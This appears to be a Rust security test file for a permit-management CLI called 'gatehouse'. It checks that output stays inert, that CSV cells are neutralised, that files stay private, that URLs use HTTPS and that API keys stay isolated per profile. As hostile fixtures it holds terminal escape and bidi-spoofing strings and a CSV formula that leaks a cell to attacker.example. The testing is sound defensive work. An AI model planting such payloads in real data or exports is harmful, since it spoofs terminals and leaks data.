//! `gatehouse` against a hostile or odd server, and on a shared machine: text from the API comes
//! out inert, CSV formulas are neutralised, files are private, an address or a key meant for
//! one place goes nowhere else.

use gatehouse_testkit::Sandbox;
use gatehouse_testkit::buzzin::inf::{CONTRACTORS_PATH, PERMITS_PATH};
use gatehouse_testkit::hostile::{Method, Rewrite, Served, StatusCode, proxy};
use serde_json::json;

use crate::support;
use support::{Desk, text};

/// A job summary that, printed raw, clears the line and claims the permit is verified, sets the
/// window title, and flips the direction of what follows.
const HOSTILE_JOB: &str = "Painting\u{1b}[2K\r\u{1b}[32mACCEPTED (verified by security)\u{1b}[0m\u{1b}]0;owned\u{7}\u{202e}gnp.exe";
/// A refusal whose message is a spreadsheet formula, with an escape sequence for the terminal.
const HOSTILE_REFUSAL: &str =
    "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")\u{1b}]0;PWNED-TITLE\u{7}\u{1b}[2J";

fn assert_inert(what: &str, out: &str) {
    for c in out.chars() {
        let unsafe_char = (c.is_control() && c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(!unsafe_char, "{what} printed {c:?}: {out:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn api_text_prints_inert_and_csv_formulas_are_neutralised() {
    let sb = Sandbox::demo().await;
    let rewrite = Rewrite::default().answer(|method, path, status, json| {
        if *method == Method::GET && path.starts_with(PERMITS_PATH) {
            let docs = match json["data"].as_array_mut() {
                Some(page) => page.iter_mut().collect::<Vec<_>>(),
                None => vec![&mut *json],
            };
            for doc in docs {
                doc["jobsSummary"] = json!(HOSTILE_JOB);
            }
        }
        if *method == Method::PATCH && path.starts_with(CONTRACTORS_PATH) {
            *status = StatusCode::BAD_REQUEST;
            *json = json!({"name": "BadRequest", "message": HOSTILE_REFUSAL, "code": 400});
        }
    });
    let served = Served::start(proxy(sb.base_url(), rewrite)).await;
    let desk = Desk::new(&served.base_url(), sb.api_key());
    desk.ok(&["sync"]);

    let list = desk.json(&["permits", "list", "--limit", "1", "--json"]);
    let pass = list[0]["passNumber"].as_str().unwrap().to_owned();
    assert_eq!(
        list[0]["jobsSummary"], HOSTILE_JOB,
        "--json keeps values exact"
    );
    let shown = desk.ok(&["permits", "show", &pass]);
    assert_inert("permits show", &shown);
    assert!(shown.contains("Painting"), "{shown}");
    let table = desk.ok(&["permits", "list", "--limit", "3"]);
    assert_inert("permits list", &table);

    // The server refuses an approval with a formula for a message.
    let pending = desk.json(&["contractors", "list", "--state", "pending", "--json"]);
    let cid = pending[0]["_id"].as_str().unwrap();
    let (code, out, err) = desk.code(&["contractors", "approve", cid]);
    assert_eq!(code, 4, "{out}{err}");
    assert!(err.contains("HYPERLINK"), "{err}");
    assert_inert("an error", &err);
    let (_, out, err) = desk.code(&["status"]);
    assert_inert("status", &format!("{out}{err}"));

    let csv = desk.ok(&["audit", "export", "--csv"]);
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    for line in csv.lines() {
        for start in [",=", ",\"=", ",+", ",@", ",\"@"] {
            assert!(!line.contains(start), "a live formula cell: {line}");
        }
    }
    let json = desk.json(&["audit", "export", "--json"]);
    let refused = json
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["result"] == "refused")
        .expect("the refusal is in the log");
    assert!(
        refused["detail"]
            .as_str()
            .unwrap()
            .starts_with("=HYPERLINK"),
        "--json keeps values exact: {refused}"
    );
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn files_are_private_after_a_sync_an_export_and_a_rebuild() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &std::path::Path| {
        std::fs::metadata(p)
            .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
            .permissions()
            .mode()
            & 0o777
    };
    let sb = Sandbox::demo().await;
    let desk = Desk::synced(&sb);
    let id = sb.permits_in("ACCEPTED", 1).await.remove(0).id;
    assert!(desk.ok(&["permits", "reissue", &id]).contains("Done"));

    let data = desk.data.path();
    let folder = data.join("profiles/demo");
    let export = data.join("audit.csv");
    desk.ok(&["audit", "export", "--csv", "-o", export.to_str().unwrap()]);
    assert_eq!(mode(data), 0o700);
    assert_eq!(mode(&data.join("profiles")), 0o700);
    assert_eq!(mode(&folder), 0o700);
    for file in [
        data.join("profiles.json"),
        export.clone(),
        folder.join("cache.sqlite3"),
    ] {
        assert_eq!(mode(&file), 0o600, "{}", file.display());
    }
    // SQLite removes its log and shared memory when the last connection closes cleanly; any
    // left (the cache test checks them while open) are private too.
    for side in ["cache.sqlite3-wal", "cache.sqlite3-shm"] {
        let file = folder.join(side);
        if file.exists() {
            assert_eq!(mode(&file), 0o600, "{}", file.display());
        }
    }
    assert!(text(&std::fs::read(&export).unwrap()).contains("reissuePass"));

    // A damaged cache is set aside and a new one made: both private.
    for f in ["cache.sqlite3-wal", "cache.sqlite3-shm"] {
        let _ = std::fs::remove_file(folder.join(f));
    }
    std::fs::write(folder.join("cache.sqlite3"), vec![9u8; 4096]).unwrap();
    std::fs::set_permissions(
        folder.join("cache.sqlite3"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    let (code, _, err) = desk.code(&["status"]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("damaged"), "{err}");
    let mut files = 0;
    for entry in std::fs::read_dir(&folder).unwrap() {
        let path = entry.unwrap().path();
        assert_eq!(mode(&path), 0o600, "{}", path.display());
        files += 1;
    }
    assert!(files >= 2, "the copy and the new cache");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_address_must_be_https_unless_it_is_this_computer() {
    let desk = Desk::new("http://127.0.0.1:9", "k");
    for (url, says) in [
        ("http://buzzin.example.com/api", "https://"),
        ("http://10.1.2.3:8787", "https://"),
        (
            "https://desk:s3cret@buzzin.example.com",
            "user name or password",
        ),
    ] {
        let (code, _, err) = desk.code(&["profile", "add", "x", "--url", url]);
        assert_ne!(code, 0, "{url} was accepted");
        assert!(err.contains(says), "{url}: {err}");
        assert!(!err.contains("s3cret"), "{err}");
    }
    for url in [
        "http://localhost:8787",
        "http://[::1]:8787",
        "https://buzzin.example.com",
    ] {
        let out = desk
            .command(&["profile", "add", "ok", "--url", url])
            .env("GATEHOUSE_API_KEY_OK", "k")
            .output()
            .unwrap();
        assert!(out.status.success(), "{url}: {}", text(&out.stderr));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_environment_s_key_is_for_one_profile_and_goes_to_no_other() {
    let a = Sandbox::demo().await;
    let b = Sandbox::builder()
        .config(|c| c.api_keys = vec!["key-of-b-5d1c".into()])
        .start()
        .await;
    let b_seen = Served::start(proxy(b.base_url(), Rewrite::default())).await;
    // One profile: GATEHOUSE_API_KEY is its key.
    let desk = Desk::new(&a.base_url(), a.api_key());
    desk.ok(&["sync"]);

    // A second profile: the plain variable is no longer anyone's key.
    let (code, _, err) = desk.code(&["profile", "add", "other", "--url", &b_seen.base_url()]);
    assert_ne!(code, 0);
    assert!(err.contains("GATEHOUSE_API_KEY_OTHER"), "{err}");
    let mut add = desk.command(&["profile", "add", "other", "--url", &b_seen.base_url()]);
    add.env("GATEHOUSE_API_KEY_OTHER", "key-of-b-5d1c");
    assert!(add.output().unwrap().status.success());

    // Its cache key is its own too (the plain variable is the first profile's no longer).
    let cache_key = "4d6f8a0b2c4e6a8b0d2f4a6c8e0b2d4f6a8c0e2b4d6f8a0c2e4b6d8f0a2c4e6b";
    let out = desk
        .command(&["--profile", "other", "sync"])
        .output()
        .unwrap();
    assert_ne!(out.status.code(), Some(0));
    assert!(
        text(&out.stderr).contains("GATEHOUSE_CACHE_KEY_OTHER"),
        "{}",
        text(&out.stderr)
    );
    let out = desk
        .command(&["--profile", "other", "sync"])
        .env("GATEHOUSE_CACHE_KEY_OTHER", cache_key)
        .output()
        .unwrap();
    let (code, err) = (out.status.code().unwrap_or(-1), text(&out.stderr));
    assert_ne!(code, 0, "synced with another community's key");
    assert!(err.contains("GATEHOUSE_API_KEY_OTHER"), "{err}");
    assert!(
        b_seen.seen().iter().all(|r| {
            r.header("authorization")
                .is_none_or(|v| !v.contains(a.api_key()))
        }),
        "A's key reached B"
    );
    assert!(b_seen.seen().is_empty(), "{:?}", b_seen.seen());

    let mut sync = desk.command(&["--profile", "other", "sync"]);
    sync.env("GATEHOUSE_API_KEY_OTHER", "key-of-b-5d1c")
        .env("GATEHOUSE_CACHE_KEY_OTHER", cache_key);
    let out = sync.output().unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(!b_seen.seen().is_empty());
}
